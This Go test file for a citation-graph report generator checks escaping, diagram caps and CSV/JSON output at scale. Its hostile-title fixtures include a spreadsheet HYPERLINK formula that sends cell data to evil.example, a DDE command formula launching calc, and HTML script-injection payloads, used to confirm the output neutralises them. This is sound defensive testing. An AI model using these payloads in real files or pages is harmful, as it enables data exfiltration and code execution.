package out

import (
	"bytes"
	"context"
	"encoding/csv"
	"encoding/json"
	"fmt"
	"os"
	"path/filepath"
	"slices"
	"strings"
	"sync"
	"testing"

	"github.com/citegraph/citegraph/bib"
	"github.com/citegraph/citegraph/fetch"
	"github.com/citegraph/citegraph/graph"
)

// sampleCorpus is fetch's sample of 766 real Semantic Scholar records with
// their real reference lists (about 8,000 citations among them).
const sampleCorpus = "../fetch/testdata/s2-sample-corpus.jsonl"

var (
	corpusOnce sync.Once
	corpusRecs []*bib.Paper
	corpusErr  error
)

// loadCorpus decodes sampleCorpus once per test binary; callers get their
// own copies of the records, so that they can change titles.
func loadCorpus(t testing.TB) []*bib.Paper {
	t.Helper()
	corpusOnce.Do(func() {
		b, err := os.ReadFile(sampleCorpus)
		if err != nil {
			corpusErr = err
			return
		}
		recs, errs := bib.DecodeJSONL(filepath.Base(sampleCorpus), b)
		if len(errs) > 0 {
			corpusErr = errs[0]
		}
		corpusRecs = recs
	})
	if corpusErr != nil {
		t.Fatalf("sample corpus: %v", corpusErr)
	}
	out := make([]*bib.Paper, len(corpusRecs))
	for i, p := range corpusRecs {
		c := *p
		out[i] = &c
	}
	return out
}

// scaleHostileTitles replace the titles of some corpus papers in corpusRun: the
// characters every output format escapes, spreadsheet formulas, a very
// long title, scripts written right to left, and markup that would run in
// HTML.
var scaleHostileTitles = []string{
	`=HYPERLINK("http://evil.example/?"&A1,"click")`,
	`+1+cmd|' /C calc'!A0`,
	`-2+3 and "Quoted" <b>Bold</b> {Braces} \backslash & Co | pipe`,
	"@SUM(1,2)\tTabbed\nNewline\r\nCRLF",
	"\u202eLTR override\u202c and \u05e9\u05dc\u05d5\u05dd Hebrew; 中文标题：深度压缩",
	"A Very Long Title " + repeatWords("that goes on and on", 40),
	"]]> <!-- --> <?xml?> &amp; &#0; &lt; \x00\x01 NUL",
	"%s %d %!v {{.}} ${HOME} `backticks`",
	"<img src=x onerror=alert(1)>",
	`</script><script>alert(2)</script><svg onload="alert(3)">`,
}

func repeatWords(s string, n int) string {
	out := s
	for range n - 1 {
		out += " " + s
	}
	return out
}

// corpusRun builds a run over the first n records of the sample corpus,
// split into families: family 0 takes the first big papers (at least 80
// when n allows), family 1 a single paper, the rest share the others round
// robin over nfam-2 families; one paper is in three families, and the
// first len(scaleHostileTitles) papers of the family after the big one get
// hostile titles. The remaining corpus records are the extra records
// suggestions are drawn from. The list also has a family of links only and
// an empty family.
func corpusRun(t testing.TB, n, nfam, big int) *Run {
	t.Helper()
	recs := loadCorpus(t)
	if n > len(recs) || nfam < 3 || big+1 > n {
		t.Fatalf("corpusRun(%d, %d, %d): corpus has %d records", n, nfam, big, len(recs))
	}
	names := make([]string, nfam)
	names[0] = "Big Family: everything & more"
	names[1] = "Singleton"
	for i := 2; i < nfam; i++ {
		names[i] = fmt.Sprintf("Family %c <%d>", 'A'+i-2, i)
	}
	famOf := func(i int) []string {
		switch {
		case i < big:
			return []string{names[0]}
		case i == big:
			return []string{names[1]}
		}
		f := []string{names[2+(i-big-1)%(nfam-2)]}
		if i == big+3 { // one paper in three families
			f = []string{names[0], f[0], names[(2+(i-big))%nfam]}
		}
		return f
	}
	hostile := 0
	list := &bib.List{Name: fmt.Sprintf("corpus-%d.md", n), Format: "markdown"}
	list.Families = append(list.Families, bib.Family{Name: "Blog posts", Slug: "blog-posts", Links: 3})
	for i := range 3 {
		list.Entries = append(list.Entries, bib.Entry{File: list.Name, Line: 2 + i, Family: "Blog posts", Kind: bib.KindLink,
			Title: fmt.Sprintf("Post %d", i), URLs: []string{fmt.Sprintf("https://blog.example/%d", i)}})
	}
	for _, name := range names {
		list.Families = append(list.Families, bib.Family{Name: name, Slug: bib.Slug(name)})
	}
	list.Families = append(list.Families, bib.Family{Name: "Nothing Yet", Slug: "nothing-yet"})
	var members []graph.Member
	var res []fetch.Resolution
	for i, p := range recs[:n] {
		fams := famOf(i)
		if fams[0] == names[2] && hostile < len(scaleHostileTitles) {
			p.Title = scaleHostileTitles[hostile]
			hostile++
		}
		for _, f := range fams {
			e := bib.Entry{File: list.Name, Line: 10 + len(list.Entries), Family: f, Kind: bib.KindPaper, Title: p.Title, Year: p.Year}
			list.Entries = append(list.Entries, e)
			res = append(res, fetch.Resolution{Entry: e, Status: fetch.StatusResolved, Paper: p, ID: p.Key(), Method: fetch.MethodID, Confidence: 1})
		}
		members = append(members, graph.Member{Paper: p, Families: fams})
	}
	for i := range list.Families {
		for _, e := range list.Entries {
			if e.Family == list.Families[i].Name && e.Kind == bib.KindPaper {
				list.Families[i].Papers++
			}
		}
	}
	g := graph.Build(members, recs[n:])
	// The neighbourhood, as --expand gathers it: each list paper's
	// citation list is every corpus record that cites it (the references
	// inverted), the other records are the extra ones.
	citing := map[string]*graph.CitationList{}
	for _, p := range recs[:n] {
		citing[p.Key()] = &graph.CitationList{}
	}
	for _, p := range recs {
		if p.References == nil {
			continue
		}
		for _, r := range *p.References {
			if cl := citing[r.Key()]; cl != nil && r.Key() != p.Key() {
				cl.Citing = append(cl.Citing, *p)
			}
		}
	}
	nb := g.Neighbourhood(&graph.Expansion{MinLinks: 2, Citations: citing, Records: recs[n:]})
	return &Run{
		List: list, Resolutions: res, Graph: g, Scores: g.Rank(2022), Suggestions: nb.Suggestions, Neighbourhood: nb,
		Expand:   ExpandInfo{Asked: true},
		DataYear: 2022, SourceDesc: "sample corpus", Credit: "Data: Semantic Scholar (semanticscholar.org), sample corpus",
	}
}

// TestScaleArtefacts writes every artefact of runs of 150 papers in 6
// families and 600 papers in 12 (one of them with 85 or 120 papers, one
// with a single paper, a paper in three families, hostile titles) and
// checks that they hold up: diagrams capped as documented and still true
// to the graph, the influence diagram pruned to the strongest arrows, every
// paper listed in rankings.md, the report's table of citations between
// families, CSV cells that no spreadsheet runs as formulas. Set
// CITEGRAPH_SCALE_OUT to a directory to keep the artefacts (150/, 600/) for
// a look.
func TestScaleArtefacts(t *testing.T) {
	for _, tc := range []struct{ n, nfam, big int }{{150, 6, 85}, {600, 12, 120}} {
		t.Run(fmt.Sprint(tc.n), func(t *testing.T) {
			run := corpusRun(t, tc.n, tc.nfam, tc.big)
			dir := t.TempDir()
			if d := os.Getenv("CITEGRAPH_SCALE_OUT"); d != "" {
				dir = filepath.Join(d, fmt.Sprint(tc.n))
			}
			if _, err := WriteAll(context.Background(), dir, run, nil); err != nil {
				t.Fatal(err)
			}
			checkScaleRun(t, run, dir)
		})
	}
}

func checkScaleRun(t *testing.T, run *Run, dir string) {
	g := run.Graph
	fams := run.Families()
	report := string(readFile(t, dir, "report.md"))

	// Family diagrams.
	for _, f := range fams {
		src := readFile(t, dir, "families/"+f.Slug+".dot")
		checkSVGShowsDOT(t, f.Slug, src, readFile(t, dir, "families/"+f.Slug+".svg"))
		checkFamilyDOT(t, run, f, src)
		nodes, _ := dotGraph(t, src)
		boxes := 0
		for k := range nodes {
			if strings.HasPrefix(k, "_famil") {
				boxes++
			}
		}
		if boxes > maxGroups {
			t.Errorf("%s: %d family boxes; want at most %d", f.Name, boxes, maxGroups)
		}
		for _, line := range strings.Split(string(src), "\n") {
			if rest, ok := strings.CutPrefix(strings.TrimSpace(line), "{ rank=same; "); ok {
				if n := strings.Count(rest, ";") - 1; n > maxPerRow {
					t.Errorf("%s: %d papers side by side: %s", f.Name, n, line)
				}
			}
		}
		capped := len(f.Papers) > maxDrawn
		note := fmt.Sprintf("the %d most cited within the list drawn", maxDrawn)
		if strings.Contains(string(src), note) != capped {
			t.Errorf("%s (%d papers): title says %q: %v; want %v", f.Name, len(f.Papers), note, !capped, capped)
		}
		if capped {
			left := fmt.Sprintf("Not drawn: the %d papers of the family least cited within the list", len(f.Papers)-maxDrawn)
			if !strings.Contains(string(src), left) {
				t.Errorf("%s: legend lacks %q", f.Name, left)
			}
			if !strings.Contains(report, fmt.Sprintf("(draws the %d most cited within the list; `rankings.md` and `bib/%s.bib` hold all %d)", maxDrawn, f.Slug, len(f.Papers))) {
				t.Errorf("report.md does not say that the diagram of %s is capped", f.Name)
			}
		}
	}

	// Influence: every family, only the strongest arrows, each family's
	// heaviest arrow out kept.
	infl := readFile(t, dir, "influence.dot")
	checkSVGShowsDOT(t, "influence", infl, readFile(t, dir, "influence.svg"))
	nodes, edges := dotGraph(t, infl)
	heaviest := map[string]graph.FamilyEdge{}
	all := 0
	for _, e := range g.Influence() {
		if e.From == e.To {
			continue
		}
		all++
		if h, ok := heaviest[e.From]; !ok || e.Weight > h.Weight {
			heaviest[e.From] = e
		}
	}
	for _, f := range fams {
		if _, ok := nodes[familyID(f.Name)]; !ok {
			t.Errorf("influence: family %s missing", f.Name)
		}
		if h, ok := heaviest[f.Name]; ok && !slices.Contains(edges, [2]string{familyID(h.From), familyID(h.To)}) {
			t.Errorf("influence: heaviest arrow of %s (%v) not drawn", f.Name, h)
		}
	}
	if limit := len(fams) * 2 * influenceTop; all > maxInfluenceEdges && (len(edges) > limit || !strings.Contains(string(infl), fmt.Sprintf("of %d arrows are drawn", all))) {
		t.Errorf("influence: %d of %d arrows drawn (at most %d), legend says so: %v", len(edges), all, limit, strings.Contains(string(infl), "arrows are drawn"))
	}

	// The report's table of citations between families has every count.
	w := map[[2]string]int{}
	for _, e := range g.Influence() {
		w[[2]string{e.From, e.To}] = e.Weight
	}
	for i, a := range fams {
		row := fmt.Sprintf("| %d. %s |", i+1, mdCell(a.Name))
		for _, b := range fams {
			row += fmt.Sprintf(" %d |", w[[2]string{a.Name, b.Name}])
		}
		if !strings.Contains(report, row+"\n") {
			t.Errorf("report.md lacks the row %q", row)
		}
	}
	for _, want := range []string{"Sections of links, not papers: Blog posts (3 links).", "Empty families: Nothing Yet.", "1 paper; diagram: `families/singleton.svg`."} {
		if !strings.Contains(report, want) {
			t.Errorf("report.md lacks %q", want)
		}
	}

	// rankings.md lists every paper in its overall table, and every paper
	// once more under each of its families.
	rankings := string(readFile(t, dir, "rankings.md"))
	rows := 0
	for _, line := range strings.Split(rankings, "\n") {
		if strings.HasPrefix(line, "| ") && !strings.HasPrefix(line, "| Rank ") && !strings.HasPrefix(line, "| ---") {
			rows++
		}
	}
	want := g.Len()
	for _, n := range g.Nodes() {
		want += len(n.Families)
	}
	if rows != want {
		t.Errorf("rankings.md has %d paper rows; want %d", rows, want)
	}

	// A paper in three families is in each family's .bib file.
	var papers []*bib.Paper
	for _, n := range g.Nodes() {
		papers = append(papers, n.Paper)
	}
	refs := bib.NewBibliography(papers)
	three := 0
	for _, n := range g.Nodes() {
		if len(n.Families) < 3 {
			continue
		}
		three++
		for _, f := range fams {
			key := "{" + refs.CiteKey(n.Key) + ","
			if slices.Contains(n.Families, f.Name) && !strings.Contains(string(readFile(t, dir, "bib/"+f.Slug+".bib")), key) {
				t.Errorf("bib/%s.bib lacks %s", f.Slug, key)
			}
		}
	}
	if three != 1 {
		t.Errorf("%d papers in three families; want 1", three)
	}

	checkNoFormulas(t, "rankings.csv", readFile(t, dir, "rankings.csv"))
	checkNoFormulas(t, "resolution.csv", readFile(t, dir, "resolution.csv"))
	js := readFile(t, dir, "rankings.json")
	for _, title := range scaleHostileTitles[:3] {
		var q bytes.Buffer
		enc := json.NewEncoder(&q)
		enc.SetEscapeHTML(false)
		if err := enc.Encode(cleanText(title)); err != nil {
			t.Fatal(err)
		}
		if !bytes.Contains(js, bytes.TrimSpace(q.Bytes())) {
			t.Errorf("rankings.json does not keep the title %q as it is", title)
		}
	}
}

// checkNoFormulas fails when a cell of the CSV file begins with a
// character that makes spreadsheets read it as a formula.
func checkNoFormulas(t *testing.T, name string, b []byte) {
	t.Helper()
	rows, err := csv.NewReader(bytes.NewReader(b)).ReadAll()
	if err != nil {
		t.Fatalf("%s: %v", name, err)
	}
	guarded := 0
	for i, row := range rows {
		for j, cell := range row {
			if cell != "" && strings.ContainsRune("=+-@\t\r", rune(cell[0])) {
				t.Errorf("%s: row %d, column %d begins a formula: %q", name, i+1, j+1, cell)
			}
			if strings.HasPrefix(cell, "'") && len(cell) > 1 && strings.ContainsRune("=+-@", rune(cell[1])) {
				guarded++
			}
		}
	}
	if guarded == 0 {
		t.Errorf("%s: no guarded cell, though the run has titles beginning with = + - @", name)
	}
}

// BenchmarkWriteAll600 measures writing every artefact of a 600-paper run
// in 12 families (about 4,700 citations among the papers).
func BenchmarkWriteAll600(b *testing.B) {
	run := corpusRun(b, 600, 12, 120)
	dir := b.TempDir()
	for b.Loop() {
		if _, err := WriteAll(context.Background(), dir, run, nil); err != nil {
			b.Fatal(err)
		}
	}
}

// TestManyFamilies: a list of more families than the caps draws the
// influence diagram and the report's table for the families most citing
// and cited, renders the diagrams of the largest families only (the others
// as DOT), and says so in the diagram and in report.md. The caps are
// lowered so that the test stays fast; the logic is the one of 1,000
// families.
func TestManyFamilies(t *testing.T) {
	defer func(a, b int) { maxInfluenceFamilies, maxRenderedFamilies = a, b }(maxInfluenceFamilies, maxRenderedFamilies)
	maxInfluenceFamilies, maxRenderedFamilies = 5, 4
	run := corpusRun(t, 120, 12, 20)
	dir := t.TempDir()
	if _, err := WriteAll(context.Background(), dir, run, nil); err != nil {
		t.Fatal(err)
	}
	fams := run.Families()
	rendered := RenderedFamilies(fams)
	if len(rendered) != 4 || !rendered[fams[0].Name] {
		t.Errorf("rendered families %v; want the 4 largest, the big family among them", rendered)
	}
	svgs := 0
	for _, f := range fams {
		_, errSVG := os.Stat(filepath.Join(dir, "families", f.Slug+".svg"))
		if _, err := os.Stat(filepath.Join(dir, "families", f.Slug+".dot")); err != nil {
			t.Errorf("%s: no DOT: %v", f.Name, err)
		}
		if (errSVG == nil) != rendered[f.Name] {
			t.Errorf("%s: SVG written %v, rendered %v", f.Name, errSVG == nil, rendered[f.Name])
		}
		if errSVG == nil {
			svgs++
		}
	}
	if svgs != 4 {
		t.Errorf("%d family SVGs; want 4", svgs)
	}
	infl := string(readFile(t, dir, "influence.dot"))
	nodes, _ := dotGraph(t, []byte(infl))
	if len(nodes) != 5 || !strings.Contains(infl, fmt.Sprintf("Only 5 of %d families are drawn", len(fams))) {
		t.Errorf("influence: %d families drawn, legend %v; want 5 and the legend saying so", len(nodes), strings.Contains(infl, "families are drawn"))
	}
	report := string(readFile(t, dir, "report.md"))
	for _, want := range []string{
		fmt.Sprintf("Only the 5 of %d families with the most citations to and from other families are in this table", len(fams)),
		fmt.Sprintf("The list has %d families: the diagrams of the 4 with the most papers are rendered to SVG", len(fams)),
		"(not rendered)",
	} {
		if !strings.Contains(report, want) {
			t.Errorf("report.md lacks %q", want)
		}
	}
}
